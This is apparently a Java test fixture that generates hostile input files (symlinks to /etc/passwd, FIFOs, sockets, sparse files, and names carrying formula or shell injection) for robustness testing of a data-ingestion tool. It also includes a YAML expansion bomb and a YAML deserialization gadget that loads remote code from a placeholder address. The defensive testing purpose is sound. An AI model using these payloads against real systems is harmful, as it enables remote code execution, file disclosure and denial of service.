package org.counterfoil.nightly;

import static org.counterfoil.nightly.HostileArchives.ascii;

import java.io.IOException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** The folder of a source that means harm: every hostile file at once. */
final class HostileFolder {

    static final String SOURCE = "hostile";

    private final Path folder;
    private final Map<String, byte[]> files = new TreeMap<>();
    private final List<String> names = new ArrayList<>();

    private HostileFolder(Path folder) {
        this.folder = folder;
    }

    /**
     * @param address that no reader may connect to, ending in a slash
     * @param megabytes how large the large ones are
     */
    static HostileFolder write(Workspace workspace, String address, int megabytes)
            throws IOException, InterruptedException {
        workspace.write(
                "input/sources/" + SOURCE + "/source.yml",
                Workspace.descriptor(SOURCE, 9, "key: [No]", "").replace("file: incidents.csv", "file: \"**\""));
        HostileFolder hostile =
                new HostileFolder(workspace.root().resolve("input/sources").resolve(SOURCE));
        hostile.files.putAll(HostileArchives.all(megabytes));
        hostile.files.putAll(HostileTexts.all(address, megabytes));
        hostile.files.putAll(HostileOffice.all(address, megabytes));
        hostile.files.putAll(HostilePdfs.all(address, megabytes));
        for (Map.Entry<String, byte[]> file : hostile.files.entrySet()) {
            Files.write(hostile.folder.resolve(file.getKey()), file.getValue());
        }
        hostile.places();
        hostile.names();
        workspace.write("input/sources/hostile-yaml/source.yml", yamlLaughs(address));
        workspace.write("input/sources/hostile-tags/source.yml", yamlTags(address));
        workspace.write("input/sources/" + "s".repeat(250) + "/source.yml", "title: a name of 250 letters\n");
        return hostile;
    }

    /** The files that {@code cases/hostile-files.csv} says something about. */
    Map<String, byte[]> files() {
        return files;
    }

    /** Files that are harmless but for their names. */
    List<String> names() throws IOException {
        if (names.isEmpty()) {
            List<String> hard = new ArrayList<>(List.of(
                    "new\nline.csv",
                    "=cmd|'calc'!A0.csv",
                    "-rf.csv",
                    "@SUM(1).csv",
                    "a\u202Evsc.csv",
                    "tab\there.csv",
                    "quote\".csv",
                    "e\u0301.csv",
                    "\u00E9.csv",
                    "<b>&amp;.csv",
                    "%s%n$(id)`id`.csv",
                    "bang!/inside.csv",
                    "l".repeat(251) + ".csv"));
            hard.add(("d".repeat(200) + "/").repeat(6) + "deep-path.csv");
            for (String name : hard) {
                Path file = folder.resolve(name);
                Files.createDirectories(file.getParent());
                Files.write(file, ascii("Zzz,Yyy\n1,2\n"));
            }
            names.addAll(hard);
        }
        return names;
    }

    private void places() throws IOException, InterruptedException {
        Files.createSymbolicLink(folder.resolve("passwd.csv"), Path.of("/etc/passwd"));
        Files.createSymbolicLink(folder.resolve("outside"), Path.of("/etc"));
        Files.createSymbolicLink(folder.resolve("loop"), Path.of("."));
        Files.createSymbolicLink(folder.resolve("nowhere.csv"), Path.of("not-there"));
        Files.createSymbolicLink(folder.resolve("zero.csv"), Path.of("/dev/zero"));
        try (ServerSocketChannel socket = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            Path name = Files.createTempDirectory(besideTheWorkspace(), "s").resolve("s");
            socket.bind(UnixDomainSocketAddress.of(name));
            Files.move(name, folder.resolve("socket.csv"));
            Files.delete(name.getParent());
        }
        new ProcessBuilder("mkfifo", folder.resolve("pipe.csv").toString())
                .start()
                .waitFor();
        try (var sparse =
                new java.io.RandomAccessFile(folder.resolve("sparse.csv").toFile(), "rw")) {
            sparse.setLength(1L << 40);
        }
        Path closed = Files.write(folder.resolve("closed.csv"), ascii("Zzz\n1\n"));
        Files.setPosixFilePermissions(closed, java.util.Set.of());
        Path closedFolder = Files.createDirectory(folder.resolve("closed-folder"));
        Files.setPosixFilePermissions(closedFolder, java.util.Set.of());
    }

    /** A socket has a short name, and cannot be moved to another file system. */
    private Path besideTheWorkspace() {
        return folder.resolve("../../../..").normalize();
    }

    private static String yamlLaughs(String address) {
        StringBuilder yaml = new StringBuilder("title: &a0 ha\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("n").append(i).append(": &a").append(i).append(" [");
            yaml.append(("*a" + (i - 1) + ",").repeat(10)).append("]\n");
        }
        return yaml + "notes: " + address + "\n";
    }

    private static String yamlTags(String address) {
        return "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + address
                + "\"]]]]\n";
    }
}
